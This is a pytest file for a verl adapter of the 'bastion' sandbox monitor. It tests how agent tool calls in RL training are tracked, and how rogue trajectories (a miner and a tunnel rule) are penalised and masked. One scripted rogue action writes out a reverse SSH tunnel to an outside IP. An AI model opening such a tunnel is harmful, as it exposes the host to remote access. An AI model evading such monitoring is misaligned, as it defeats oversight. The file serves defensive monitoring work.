"""verl adapter: tool lifecycle driven by scripted policies, output masking."""

from __future__ import annotations

import asyncio
from types import SimpleNamespace
from typing import ClassVar

import pytest

from bastion.rl import BastionEnv, RoguePolicy
from bastion.rl.adapters.verl import BastionToolCore, annotate_output, verl_tool_class

from .fixtures import pattern_engine


def _factory(state_dir):
    return lambda: BastionEnv(run_id="run-verl", name="verl", state_dir=state_dir,
                              engine_factory=pattern_engine, exec_timeout=20)


async def _drive(tool, agent, instance="traj-1"):
    agent.reset()
    iid, prompt = await tool.create(instance, create_kwargs={"episode_id": instance})
    rewards, metrics, info = [], [], {}
    obs, reward = prompt, None
    for _ in range(20):
        action = agent.act(obs, reward, info)
        obs, reward, m = await tool.execute(iid, {"command": action})
        info = {"bastion": m.get("bastion", {})}
        rewards.append(reward)
        metrics.append(m)
        if m.get("bastion_episode_over"):
            break
    total = await tool.calc_reward(iid)
    await tool.release(iid)
    return rewards, metrics, total


def test_tool_core_contains_rogue_and_masks_output(state_dir):
    core = BastionToolCore(_factory(state_dir))
    _, metrics, total = asyncio.run(_drive(core, RoguePolicy()))
    assert metrics[-1] == {"bastion_episode_over": 1}  # bastion ended it; the loop continues
    violations = [v for m in metrics for v in m.get("bastion", {}).get("verdicts", [])]
    assert {v["rule_id"] for v in violations} == {"test.miner", "test.tunnel"}
    assert all(v["episode_id"] == "traj-1" for v in violations)
    assert total == pytest.approx(-1.5)
    record = core.records["traj-1"]
    output = SimpleNamespace(response_mask=[1, 1, 0, 1], reward_score=1.0, extra_fields={})
    annotate_output(output, record)
    assert output.response_mask == [0, 0, 0, 0]
    assert output.reward_score == pytest.approx(-0.5)
    assert output.extra_fields["bastion_flag"] == "mask"


def test_through_real_verl_base_tool(state_dir):
    pytest.importorskip("verl.tools.base_tool")
    cls = verl_tool_class(_factory(state_dir))
    tool = cls({}, None)
    assert tool.name == "bastion_shell"
    *_, total = asyncio.run(_drive(tool, RoguePolicy()))
    assert total == pytest.approx(-1.5)


# -- verl's ToolAgentLoop lifecycle: create -> execute -> release around every call --


async def _call_tool(tool, name_args: dict, tools_kwargs: dict):
    """What verl's ``ToolAgentLoop._call_tool`` does for one tool call (verl 0.5+):
    a fresh instance from ``create(create_kwargs=...)``, one ``execute``, and a
    ``release`` in ``finally``."""
    instance_id = None
    try:
        kwargs = tools_kwargs.get("bastion_shell", {})
        instance_id, _ = await tool.create(create_kwargs=kwargs.get("create_kwargs", {}))
        text, _, metrics = await tool.execute(instance_id, name_args)
        return text, metrics
    finally:
        if instance_id:
            await tool.release(instance_id)


async def _agent_loop_run(core, turns: list[list[str]], tools_kwargs: dict):
    """``ToolAgentLoop.run`` as ``BastionToolAgentLoop`` wraps it: one trajectory,
    each turn's tool calls gathered in parallel as verl does."""
    async with core.trajectory() as key:
        seen = []
        for calls in turns:
            responses = await asyncio.gather(
                *[_call_tool(core, {"command": c}, tools_kwargs) for c in calls])
            seen.append(responses)
            assert core.live_trajectories().count(key) == 1
    return key, seen


def test_verl_lifecycle_keeps_one_session_per_trajectory(state_dir):
    core = BastionToolCore(_factory(state_dir))
    # GRPO: two samples of the same prompt share the row's tools_kwargs
    tools_kwargs = {"bastion_shell": {"create_kwargs": {"task": "same-row"}}}
    turns = [
        ["echo first > state.txt", "echo second > other.txt"],  # parallel calls
        ["cat state.txt other.txt"],
        ['{"tool": "write_file", "path": "notes.md", "content": "kept"}'],
        ["cat notes.md; ls"],
    ]

    async def both():
        return await asyncio.gather(_agent_loop_run(core, turns, tools_kwargs),
                                    _agent_loop_run(core, turns, tools_kwargs))

    results = asyncio.run(both())
    assert core.opened == 2  # one session per trajectory, not per tool call (5 each)
    assert core.live_trajectories() == []  # closed when each trajectory ended
    for key, seen in results:
        assert "first" in seen[1][0][0] and "second" in seen[1][0][0]  # state persisted
        assert "kept" in seen[3][0][0] and "state.txt" in seen[3][0][0]
        record = core.records[key]
        assert len(record.steps) == 5 and record.flag == "keep" and not record.violations
        assert record.episode_id == key
    # the two samples did not share a workspace: each has its own record and session
    assert len({core.records[k].session_id for k, _ in results}) == 2


def test_verl_agent_data_request_id_keys_the_trajectory(state_dir):
    core = BastionToolCore(_factory(state_dir))

    async def run():
        agent_data = SimpleNamespace(request_id="abc123")
        a, _ = await core.create(create_kwargs={}, agent_data=agent_data)
        await core.execute(a, {"command": "echo x > f"})
        await core.release(a)
        b, _ = await core.create(create_kwargs={}, agent_data=agent_data)
        out, _, _ = await core.execute(b, {"command": "cat f"})
        await core.release(b)
        assert core.live_trajectories() == ["req-abc123"]  # still open after release
        record = await core.end_trajectory("req-abc123")
        return out, record

    out, record = asyncio.run(run())
    assert out.startswith("x") and core.opened == 1
    assert record is not None and len(record.steps) == 2
    assert core.live_trajectories() == []


def test_annotate_output_leaves_infra_failed_out(state_dir):
    from bastion.rl.records import EpisodeRecord

    record = EpisodeRecord("r", "e", "s", "h", infra_reason="node lost", excluded=True)
    output = SimpleNamespace(response_mask=[1, 1], reward_score=0.0, extra_fields={})
    annotate_output(output, record)
    assert output.response_mask == [0, 0]
    assert output.extra_fields["bastion_exclude"] == 1
    assert output.extra_fields["bastion_infra_failed"] == 1
    assert output.reward_score == 0.0  # no penalty for what was not the agent's


def test_agent_loop_class_around_verls_tool_agent_loop_shape(state_dir, monkeypatch):
    """``agent_loop_class`` over a stand-in for verl's ToolAgentLoop with the same
    shape (class-level ``tools``, per-call ``create -> execute -> release`` in
    ``_call_tool``, parallel calls gathered): verl itself needs torch and a GPU
    stack, so the module is stood in for; the lifecycle is verl 0.5's, line for line
    in what matters (which calls, in which tasks, in which order)."""
    import sys
    import types

    registry: dict[str, type] = {}

    def register(name):
        def deco(cls):
            registry[name] = cls
            return cls
        return deco

    class ToolAgentLoop:  # verl.experimental.agent_loop.tool_agent_loop, reduced
        tools: ClassVar[dict] = {}

        def __init__(self, script):
            self.script = script

        async def run(self, messages, sampling_params, **kwargs):
            tools_kwargs = kwargs.get("tools_kwargs", {})
            response_mask = []
            for calls in self.script:  # each turn: the model's tool calls
                response_mask += [1] * 3
                responses = await asyncio.gather(
                    *[self._call_tool(SimpleNamespace(name="bastion_shell", arguments=c),
                                      tools_kwargs) for c in calls])
                response_mask += [0] * len(responses)
                self.seen = getattr(self, "seen", []) + [responses]
            return SimpleNamespace(response_mask=response_mask, reward_score=None,
                                   extra_fields={})

        async def _call_tool(self, tool_call, tools_kwargs):
            import json

            tool, instance_id = None, None
            try:
                tool = self.tools[tool_call.name]
                kwargs = tools_kwargs.get(tool_call.name, {})
                instance_id, _ = await tool.create(create_kwargs=kwargs.get("create_kwargs", {}))
                response, _, _ = await tool.execute(instance_id, json.loads(tool_call.arguments))
            finally:
                if tool and instance_id:
                    await tool.release(instance_id)
            return response

    mods = {
        "verl": types.ModuleType("verl"),
        "verl.experimental": types.ModuleType("verl.experimental"),
        "verl.experimental.agent_loop": types.ModuleType("verl.experimental.agent_loop"),
        "verl.experimental.agent_loop.agent_loop":
            types.ModuleType("verl.experimental.agent_loop.agent_loop"),
        "verl.experimental.agent_loop.tool_agent_loop":
            types.ModuleType("verl.experimental.agent_loop.tool_agent_loop"),
    }
    mods["verl.experimental.agent_loop.agent_loop"].register = register
    mods["verl.experimental.agent_loop.tool_agent_loop"].ToolAgentLoop = ToolAgentLoop
    for name, mod in mods.items():
        monkeypatch.setitem(sys.modules, name, mod)

    from bastion.rl.adapters.verl import agent_loop_class

    cls = agent_loop_class("bastion_tool_agent")
    assert registry["bastion_tool_agent"] is cls

    class Tool:  # what verl_tool_class builds, minus verl's schema types
        def __init__(self, core):
            self.core = core

        async def create(self, instance_id=None, **kw):
            return await self.core.create(instance_id, **kw)

        async def execute(self, instance_id, parameters, **kw):
            text, _, _ = await self.core.execute(instance_id, parameters)
            return text, 0.0, {}

        async def release(self, instance_id, **kw):
            await self.core.release(instance_id)

    core = BastionToolCore(_factory(state_dir))
    cls.tools = {"bastion_shell": Tool(core)}
    script = [[json_call("echo one > a.txt"), json_call("echo two > b.txt")],
              [json_call("cat a.txt b.txt")],
              [json_call("ssh -R 9000:localhost:22 203.0.113.9")]]
    honest, rogue = cls(script[:2]), cls(script)

    async def both():
        return await asyncio.gather(
            honest.run([], {}, tools_kwargs={"bastion_shell": {"create_kwargs": {}}}),
            rogue.run([], {}, tools_kwargs={"bastion_shell": {"create_kwargs": {}}}))

    out_honest, out_rogue = asyncio.run(both())
    assert core.opened == 2 and core.live_trajectories() == []
    assert "one" in honest.seen[1][0] and "two" in honest.seen[1][0]
    assert out_honest.extra_fields["bastion_flag"] == "keep"
    assert 1 in out_honest.response_mask
    assert out_rogue.extra_fields["bastion_flag"] == "mask"  # the tunnel, caught
    assert out_rogue.response_mask == [0] * len(out_rogue.response_mask)


def json_call(command: str) -> str:
    import json

    return json.dumps({"command": command})


def test_verl_setup_failure_leaves_the_trajectory_out(state_dir, tmp_path):
    missing = str(tmp_path / "no-such-image")

    class BadImageEnv(BastionEnv):
        def reset(self, *, seed=None, options=None):
            return super().reset(seed=seed, options={**(options or {}), "image": missing})

    core = BastionToolCore(lambda: BadImageEnv(run_id="run-verl", name="verl",
                                               state_dir=state_dir,
                                               engine_factory=pattern_engine))

    async def run():
        async with core.trajectory("doomed") as key:
            with pytest.raises(Exception, match="image"):
                await core.create(create_kwargs={})
        return key

    key = asyncio.run(run())
    record = core.records[key]
    assert record.infra_failed and record.excluded and record.penalty == 0.0
    output = SimpleNamespace(response_mask=[1, 1], reward_score=None, extra_fields={})
    annotate_output(output, record)
    assert output.response_mask == [0, 0] and output.extra_fields["bastion_infra_failed"] == 1
